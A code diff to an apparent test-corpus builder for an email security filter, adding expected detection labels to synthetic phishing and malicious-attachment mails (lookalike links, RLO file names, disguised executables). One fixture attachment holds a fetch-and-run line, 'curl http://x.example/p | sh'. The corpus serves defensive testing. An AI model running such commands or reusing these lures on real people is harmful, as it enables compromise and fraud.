@@ -152,7 +152,7 @@ def build_corpus() -> Corpus:
     def add(name: str, raw: bytes, expect: set[str], description: str, **kw: bool) -> None:
         mails.append(CorpusMail(name, raw, frozenset(expect), description, **kw))
 
-    partner_sig_ja = f"\n\n--\n関門商事株式会社 営業部\n山田 花子\nE-mail: hanako@{PARTNER}\nTEL: 03-0000-0000\n"
+    partner_sig_ja = f"\n\n--\n関門商事株式会社 営業部\n山田 花子\nE-mail: hanako@{PARTNER}\nTEL: 03-6800-1234\n"
     # ---- clean mails (must be delivered byte-identical) -------------------------------------
     add("clean-ascii", _mail("clean-ascii", frm=f"Jiro Suzuki <jiro@{ORG}>", subject="Meeting notes",
                              body="Hello,\n\nThe notes are below.\n\nJiro\n"), set(), "plain ASCII internal mail")
@@ -168,12 +168,12 @@ def build_corpus() -> Corpus:
     add("clean-rfc2231-pdf", _mail("clean-rfc2231-pdf", frm=f"山田 花子 <hanako@{PARTNER}>", subject="見積書送付",
                                    body="見積書を添付します。" + partner_sig_ja,
                                    attachments=(("御見積書 2024年4月.pdf", "application/pdf", PDF_STUB),)),
-        set(), "RFC 2231 encoded Japanese file name, real PDF content")
+        {"attachment-present"}, "RFC 2231 encoded Japanese file name, real PDF content")
     add("clean-zip", _mail("clean-zip", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料一式",
                            body="資料一式を zip でお送りします。" + partner_sig_ja,
                            attachments=(("資料.zip", "application/zip",
                                          _zip([("見積書.pdf", PDF_STUB), ("画像/図1.png", PNG_STUB)])),)),
-        set(), "zip with harmless documents")
+        {"attachment-present"}, "zip with harmless documents")
     add("clean-lf", _mail("clean-lf", frm=f"Jiro Suzuki <jiro@{ORG}>", subject="LF line endings",
                           body="Saved by a client with LF line endings.\n", policy=_FILE),
         set(), "LF line endings")
@@ -196,16 +196,18 @@ def build_corpus() -> Corpus:
     add("sender-mismatch-signature", _mail(
         "sender-mismatch-signature", frm=f"山田 花子 <hanako@{PARTNER}>", subject="お振込先変更のお知らせ",
         body="いつもお世話になっております。\n\n--\n関門商事株式会社 経理部\nE-mail: keiri@payments-desk.example.net\n",
-        charset="iso-2022-jp"), {"sender-mismatch"}, "signature shows another address (ISO-2022-JP)")
+        charset="iso-2022-jp"), {"sender-mismatch", "theme-credential-request"},
+        "signature shows another address (ISO-2022-JP); the subject announces new bank details")
     add("display-name-impersonation", _mail(
         "display-name-impersonation", frm="関門市役所 総務課 <soumu@office-mail.example.net>", subject="職員各位",
-        body="添付の内容をご確認ください。\n"), {"display-name-impersonation"}, "display name claims the organization")
+        body="添付の内容をご確認ください。\n"), {"display-name-impersonation", "theme-organization-notice"},
+        "display name claims the organization, addressed to all staff (職員各位)")
     add("link-text-mismatch", _mail(
         "link-text-mismatch", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ログインのお願い",
         body="ログインしてください。" + partner_sig_ja,
         html=f'<p><a href="https://login.phish.example.net/a">https://www.bank.example.com/login</a></p>'
              f'<p>--<br>E-mail: hanako@{PARTNER}</p>'),
-        {"link-text-mismatch"}, "anchor text names another host than its href")
+        {"link-text-mismatch", "theme-credential-request"}, "anchor text names another host than its href; asks to log in")
     confusable_host = f"city.kanmοn.example.jp".encode("idna").decode()  # Greek omicron
     add("lookalike-punycode-url", _mail(
         "lookalike-punycode-url", frm=f"山田 花子 <hanako@{PARTNER}>", subject="市のお知らせ",
@@ -218,60 +220,61 @@ def build_corpus() -> Corpus:
     add("executable-by-extension", _mail(
         "executable-by-extension", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ツール",
         body="ツールです。" + partner_sig_ja, attachments=(("setup.exe", "application/octet-stream", PE_STUB),)),
-        {"executable-attachment"}, "setup.exe with PE content")
+        {"executable-attachment", "attachment-present"}, "setup.exe with PE content")
     add("executable-by-content", _mail(
         "executable-by-content", frm=f"山田 花子 <hanako@{PARTNER}>", subject="請求書",
         body="請求書です。" + partner_sig_ja, attachments=(("請求書.pdf", "application/pdf", PE_STUB),)),
-        {"executable-attachment"}, "named .pdf but the content is a PE executable")
+        {"executable-attachment", "attachment-present"}, "named .pdf but the content is a PE executable")
     add("executable-script-content", _mail(
         "executable-script-content", frm=f"山田 花子 <hanako@{PARTNER}>", subject="手順",
         body="手順です。" + partner_sig_ja,
         attachments=(("手順.txt", "text/plain", b"#!/bin/sh\ncurl http://x.example/p | sh\n"),
                      ("data.bin", "application/octet-stream", ELF_STUB))),
-        {"executable-attachment"}, "shebang script named .txt and an ELF binary")
+        {"executable-attachment", "attachment-present"}, "shebang script named .txt and an ELF binary")
     add("shortcut-lnk", _mail(
         "shortcut-lnk", frm=f"山田 花子 <hanako@{PARTNER}>", subject="共有フォルダ",
         body="ショートカットです。" + partner_sig_ja, attachments=(("共有フォルダ.lnk", "application/octet-stream", LNK_STUB),)),
-        {"shortcut-attachment"}, ".lnk with LNK header")
+        {"shortcut-attachment", "attachment-present"}, ".lnk with LNK header")
     add("shortcut-by-header", _mail(
         "shortcut-by-header", frm=f"山田 花子 <hanako@{PARTNER}>", subject="写真",
         body="写真です。" + partner_sig_ja, attachments=(("photo.jpg", "image/jpeg", LNK_STUB),)),
-        {"shortcut-attachment"}, "named .jpg but carries an LNK header")
+        {"shortcut-attachment", "attachment-present"}, "named .jpg but carries an LNK header")
     add("double-extension", _mail(
         "double-extension", frm=f"山田 花子 <hanako@{PARTNER}>", subject="報告書",
         body="報告書です。" + partner_sig_ja, attachments=(("報告書.pdf.exe", "application/octet-stream", b"not really"),)),
-        {"double-extension", "executable-attachment"},
+        {"double-extension", "executable-attachment", "attachment-present"},
         "report.pdf.exe (a double extension is only reported when the real extension is dangerous)")
     add("extension-padding", _mail(
         "extension-padding", frm=f"山田 花子 <hanako@{PARTNER}>", subject="議事録",
         body="議事録です。" + partner_sig_ja,
         attachments=(("議事録\u3000\u3000\u3000\u3000\u3000\u3000.pdf", "application/pdf", PDF_STUB),)),
-        {"extension-padding"}, "ideographic spaces pad the name before .pdf")
+        {"extension-padding", "attachment-present", "theme-internal-document"},
+        "ideographic spaces pad the name before .pdf (of the minutes, 議事録)")
     add("filename-rlo-rfc2231", _mail(
         "filename-rlo-rfc2231", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
         body="資料です。" + partner_sig_ja,
         attachments=(("資料\u202Etxt.pdf", "application/pdf", PDF_STUB),)),
-        {"filename-control-chars"}, "RLO inside an RFC 2231 encoded file name")
+        {"filename-control-chars", "attachment-present"}, "RLO inside an RFC 2231 encoded file name")
     add("filename-zero-width-rfc2047", _raw_attachment_mail(
         "filename-zero-width-rfc2047",
         'filename="=?UTF-8?B?' + base64.b64encode("見積\u200B書.pdf".encode()).decode() + '?="', PDF_STUB,
-        ctype="application/pdf"), {"filename-control-chars"}, "zero-width space in an RFC 2047 encoded name")
+        ctype="application/pdf"), {"filename-control-chars", "attachment-present"}, "zero-width space in an RFC 2047 encoded name")
     add("archive-with-exe", _mail(
         "archive-with-exe", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
         body="資料です。" + partner_sig_ja,
         attachments=(("資料.zip", "application/zip", _zip([("readme.txt", b"hello"), ("資料.scr", PE_STUB)])),)),
-        {"archive-threat"}, "zip containing an .scr executable")
+        {"archive-threat", "attachment-present"}, "zip containing an .scr executable")
     add("archive-nested-lnk", _mail(
         "archive-nested-lnk", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料",
         body="資料です。" + partner_sig_ja,
         attachments=(("outer.zip", "application/zip",
                       _zip([("inner.zip", _zip([("folder.pdf", LNK_STUB)]))])),)),
-        {"archive-threat"}, "zip in zip, LNK disguised as .pdf inside")
+        {"archive-threat", "attachment-present"}, "zip in zip, LNK disguised as .pdf inside")
     add("archive-encrypted", _mail(
         "archive-encrypted", frm=f"山田 花子 <hanako@{PARTNER}>", subject="【パスワード別送】資料",
         body="パスワードは別途お送りします。" + partner_sig_ja,
         attachments=(("資料.zip", "application/zip", _encrypt_flag(_zip([("資料.docx", b"secret")]))),)),
-        {"archive-encrypted"}, "password zip (encrypted entries)")
+        {"archive-encrypted", "attachment-present"}, "password zip (encrypted entries)")
     add("auth-dmarc-fail", _mail(
         "auth-dmarc-fail", frm=f"山田 花子 <hanako@{PARTNER}>", subject="ご連絡", body="ご連絡です。" + partner_sig_ja,
         headers=(("Authentication-Results",
@@ -280,7 +283,7 @@ def build_corpus() -> Corpus:
     add("virus", _mail(
         "virus", frm=f"山田 花子 <hanako@{PARTNER}>", subject="資料", body="資料です。" + partner_sig_ja,
         attachments=(("資料.dat", "application/octet-stream", b"header " + TEST_VIRUS_MARKER + b" trailer"),)),
-        {"virus-detected"}, "attachment carrying the test malware marker", needs_scanner=True)
+        {"virus-detected", "attachment-present"}, "attachment carrying the test malware marker", needs_scanner=True)
 
     # ---- DKIM (needs the corpus DNS) --------------------------------------------------------
     private, record = _dkim_key()
@@ -298,7 +301,8 @@ def build_corpus() -> Corpus:
         "combo-freemail-impersonation-exe", frm="関門市役所 人事課 <kanmon.jinji@yahoo.co.jp>", subject="人事異動のお知らせ",
         body="人事異動の資料を添付します。\n", charset="iso-2022-jp",
         attachments=(("人事異動.pdf.exe", "application/octet-stream", PE_STUB),)),
-        {"freemail-sender", "display-name-impersonation", "double-extension", "executable-attachment"},
+        {"freemail-sender", "display-name-impersonation", "double-extension", "executable-attachment",
+         "attachment-present", "theme-organization-notice"},
         "ISO-2022-JP: free-mail sender posing as the city with a report.pdf.exe")
     add("combo-phish-link-lookalike", _mail(
         "combo-phish-link-lookalike", frm="Kanmon Trading <support@kanmon-trading-support.example.net>",
@@ -306,7 +310,8 @@ def build_corpus() -> Corpus:
         html=f'<p>Log in at <a href="https://{confusable_host}/login">https://{ORG}/login</a></p>',
         headers=(("Reply-To", "helpdesk@quota-check.example.org"),
                  ("Authentication-Results", f"{TRUSTED_AUTHSERV}; spf=softfail smtp.mailfrom=x.example.net; dmarc=none"))),
-        {"display-name-impersonation", "sender-mismatch", "link-text-mismatch", "lookalike-domain", "sender-auth-failure"},
+        {"display-name-impersonation", "sender-mismatch", "link-text-mismatch", "lookalike-domain", "sender-auth-failure",
+         "theme-credential-request"},
         "English phish: partner name, lookalike link, Reply-To elsewhere, SPF softfail")
     add("combo-rlo-exe-in-zip-encrypted", _mail(
         "combo-rlo-exe-in-zip-encrypted", frm="採用担当 <recruit2024@outlook.jp>", subject="履歴書の送付",
@@ -315,14 +320,16 @@ def build_corpus() -> Corpus:
                      ("職務経歴書.zip", "application/zip",
                       _zip([("職務経歴書          .exe", PE_STUB)])),
                      ("パスワード付き.zip", "application/zip", _encrypt_flag(_zip([("a.doc", b"x")]))))),
-        {"freemail-sender", "filename-control-chars", "executable-attachment", "archive-threat", "archive-encrypted"},
+        {"freemail-sender", "filename-control-chars", "executable-attachment", "archive-threat", "archive-encrypted",
+         "attachment-present", "theme-request"},
         "résumé lure: RLO .scr, padded exe inside a zip, and a password zip")
     add("combo-padding-double-virus", _mail(
         "combo-padding-double-virus", frm=f"山田 花子 <hanako@{PARTNER}>", subject="請求書",
         body="請求書です。" + partner_sig_ja,
         attachments=(("請求書.pdf                    .exe", "application/octet-stream", PE_STUB + TEST_VIRUS_MARKER),
                      ("請求書フォルダ.lnk", "application/octet-stream", LNK_STUB))),
-        {"extension-padding", "double-extension", "executable-attachment", "virus-detected", "shortcut-attachment"},
+        {"extension-padding", "double-extension", "executable-attachment", "virus-detected", "shortcut-attachment",
+         "attachment-present"},
         "padded double extension carrying the test marker, and a shortcut", needs_scanner=True)
     return Corpus(mails, dns)
 
